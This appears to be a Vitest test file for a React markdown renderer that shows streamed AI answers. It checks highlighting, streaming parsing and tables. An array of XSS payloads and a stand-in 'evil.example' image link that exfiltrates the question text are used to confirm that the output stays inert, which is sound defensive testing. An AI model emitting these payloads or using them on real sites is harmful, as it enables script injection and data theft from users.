import { act } from "react";
import { createRoot } from "react-dom/client";
import { renderToStaticMarkup } from "react-dom/server";
import { beforeAll, describe, expect, it } from "vitest";
import { blocksOf, GrowingBlocks, loadRepair } from "../src/text/blocks.ts";
import { Markdown, safeTarget } from "../src/text/markdown.tsx";

const html = (text: string, growing = false) => renderToStaticMarkup(<Markdown text={text} growing={growing} />);
function page(text: string, growing = false) {
  const root = document.createElement("div");
  // Parsed by the browser's own parser, as an attacker would have it.
  root.innerHTML = html(text, growing);
  return root;
}

beforeAll(async () => {
  (globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;
  await loadRepair();
});

const PAYLOADS = [
  `<script>window.hit=1</script>`,
  `<img src=x onerror="window.hit=1">`,
  `<svg onload="window.hit=1"><animate onbegin=alert(1) attributeName=x dur=1s></svg>`,
  `[a](javascript:window.hit=1)`,
  `[a](JaVaScRiPt:alert(1))`,
  `[a](data:text/html,<script>alert(1)</script>)`,
  `[a](vbscript:msgbox(1))`,
  `![a](javascript:alert(1))`,
  `![secret](https://evil.example/?q=what-was-asked)`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<a href="//evil.example" style="position:fixed;inset:0">cover</a>`,
  `<form action="https://evil.example"><input name=key><button>Go</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<style>*{display:none}</style>\n\n[r][x]\n\n[x]: javascript:alert(1)`,
];

describe("code", () => {
  const python = '```py\ndef f(x): return "<b>"\n```';
  const drawn = async (text: string, growing: boolean) => {
    const root = document.createElement("div");
    await act(async () => createRoot(root).render(<Markdown text={text} growing={growing} />));
    await act(() => import("../src/text/highlighted.tsx"));
    return root.querySelector("pre code") as HTMLElement;
  };

  it("has the colours of its language, and the same text", async () => {
    const code = await drawn(python, false);
    expect(code.textContent).toBe('def f(x): return "<b>"');
    expect(code.querySelector(".hljs-keyword")?.textContent).toBe("def");
    expect(code.querySelector("b")).toBeNull();
  });

  it("is coloured as soon as it is settled, not while it still grows", async () => {
    expect((await drawn(python, true)).querySelector("span")).toBeNull();
    expect((await drawn(`${python}\n\nThen.\n\nAnd.\n\nLast.`, true)).querySelector("span")).not.toBeNull();
  });

  it.each(["```\nplain\n```", "```klingon\nplain\n```", "```constructor\nplain\n```"])(
    "stays plain in %s",
    async (text) => {
      const code = await drawn(text, false);
      expect(code.innerHTML).toBe("plain");
    },
  );
});

describe("a model's answer is data", () => {
  it.each(PAYLOADS)("is inert: %s", (payload) => {
    for (const growing of [false, true]) {
      const root = page(payload, growing);
      const found = [
        ...root.querySelectorAll("script, img, svg, iframe, form, input, style, math, object, embed, base"),
      ];
      expect(found.filter((element) => !element.closest("button"))).toEqual([]);
      for (const element of root.querySelectorAll("*")) {
        for (const { name } of element.attributes) expect(name).not.toMatch(/^on|^style$|^srcdoc$/);
      }
      for (const link of root.querySelectorAll("a")) expect(link.protocol).toMatch(/^(https?|mailto):$/);
    }
  });

  it("shows markup as the text it is", () => {
    expect(page("a <b>bold</b> claim").textContent).toContain("a <b>bold</b> claim");
  });

  it("turns a remote image into a link, so that nobody is told by loading it", () => {
    const root = page("![chart](https://evil.example/c.png)");
    expect(root.querySelector("img")).toBeNull();
    expect(root.querySelector("a")?.textContent).toBe("Image: chart");
    expect(root.textContent).toContain("evil.example");
  });

  it("says where a link leads and gives nothing away to that place", () => {
    const root = page("[bank](https://not-the-bank.example/login)");
    expect(root.querySelector("a")?.rel).toBe("noopener noreferrer nofollow");
    expect(root.textContent).toBe("bank (not-the-bank.example)");
  });

  it("links nothing but the web and mail", () => {
    expect(safeTarget("//evil.example")).toBeNull();
    expect(safeTarget("java\nscript:alert(1)")).toBeNull();
    expect(safeTarget("/api/query")).toBeNull();
    expect(safeTarget("https://a.example/x")?.host).toBe("a.example");
  });

  it.each([
    ["brackets", "[".repeat(50_000)],
    ["quotes", ">".repeat(50_000)],
    ["lists", Array.from({ length: 1000 }, (_, depth) => `${" ".repeat(depth * 2)}- a`).join("\n")],
    ["size", "word ".repeat(60_000)],
  ])("survives absurd %s and loses nothing of it", (_, text) => {
    const raw = blocksOf(text)
      .map((block) => block.raw)
      .join("");
    expect(raw.replace(/\s/g, "")).toBe(text.replace(/\s/g, ""));
  });
});

describe("markdown", () => {
  it("gives the shapes that models write", () => {
    const root = page(
      "# T\n\n- a\n  1. b\n- [x] c\n\n> q\n\n`x<y` **b** *i* ~~d~~ &amp; \\*\n\n```py\nif a < b: pass\n```",
    );
    expect(root.querySelector("h3")?.textContent).toBe("T");
    expect(root.querySelector("ul > li > ol > li")?.textContent).toBe("b");
    expect(root.textContent).toContain("☑ c");
    expect(root.querySelector("blockquote p")?.textContent).toBe("q");
    expect(root.querySelector("p code")?.textContent).toBe("x<y");
    expect(root.querySelector("pre code")?.textContent).toBe("if a < b: pass");
    expect(root.textContent).toContain("b i d & *");
  });

  it("makes tables that can be reached and read", () => {
    const root = page("| | SSE |\n|---|---:|\n| resume | yes |");
    expect(root.querySelector("[role=group]")?.getAttribute("tabindex")).toBe("0");
    expect(root.querySelector("thead td")?.textContent).toBe("");
    expect(root.querySelector("th")?.textContent).toBe("SSE");
    expect(root.querySelector("tbody td:last-child")?.className).toBe("text-right");
  });

  it("never flashes the markers of half a word", () => {
    const text = "This is **important** and `code` too.";
    for (let end = 1; end <= text.length; end++) {
      const shown = page(text.slice(0, end), true).textContent ?? "";
      if (end > 11 && end < 21) expect(shown).not.toContain("**i");
    }
  });
});

describe("a growing text", () => {
  const whole =
    "# A\n\npara one\n\n- x\n- y\n\n```js\nlet a;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nlast *words* here";

  it.each([1, 3, 7, 20])("ends as the whole text would, fed %i characters at a time", (step) => {
    const growing = new GrowingBlocks();
    let blocks = growing.update("");
    for (let end = step; end < whole.length + step; end += step) blocks = growing.update(whole.slice(0, end));
    expect(blocks.map((block) => [block.type, block.raw.trim()])).toEqual(
      blocksOf(whole).map((block) => [block.type, block.raw.trim()]),
    );
  });

  it("keeps settled blocks, so that they are not read again", () => {
    const growing = new GrowingBlocks();
    const before = growing.update("one\n\ntwo\n\nthree\n\nfour");
    const after = growing.update("one\n\ntwo\n\nthree\n\nfour and more");
    expect(after[0]).toBe(before[0]);
    expect(after[1]).toBe(before[1]);
  });

  it("settles the same blocks whatever ends its lines", () => {
    const text = "one\n\ntwo\n\nthree\n\nfour";
    const [plain, windows] = [new GrowingBlocks(), new GrowingBlocks()];
    plain.update(text);
    for (const end of [6, 7, 20, 99]) windows.update(text.replaceAll("\n", "\r\n").slice(0, end));
    expect(windows.settledCount).toBe(plain.settledCount);
    expect(plain.settledCount).toBe(2);
  });

  it("begins anew when the text is another one", () => {
    const growing = new GrowingBlocks();
    growing.update("one\n\ntwo\n\nthree\n\nfour");
    expect(growing.update("other").map((block) => block.raw)).toEqual(["other"]);
  });
});

describe("on the page", () => {
  it("keeps the elements already read while more arrives, and resolves reference links at the end", () => {
    const place = document.createElement("div");
    const root = createRoot(place);
    const show = (text: string, growing: boolean) => act(() => root.render(<Markdown text={text} growing={growing} />));
    const text = "See [the spec][s].\n\ntwo\n\nthree\n\n";
    show(text, true);
    const first = place.querySelector("p");
    show(`${text}[s]: https://spec.example/`, true);
    expect(place.querySelector("p")).toBe(first);
    expect(place.querySelector("a")).toBeNull();
    show(`${text}[s]: https://spec.example/`, false);
    expect(place.querySelector("p")).toBe(first);
    expect(place.querySelector("a")?.href).toBe("https://spec.example/");
  });
});
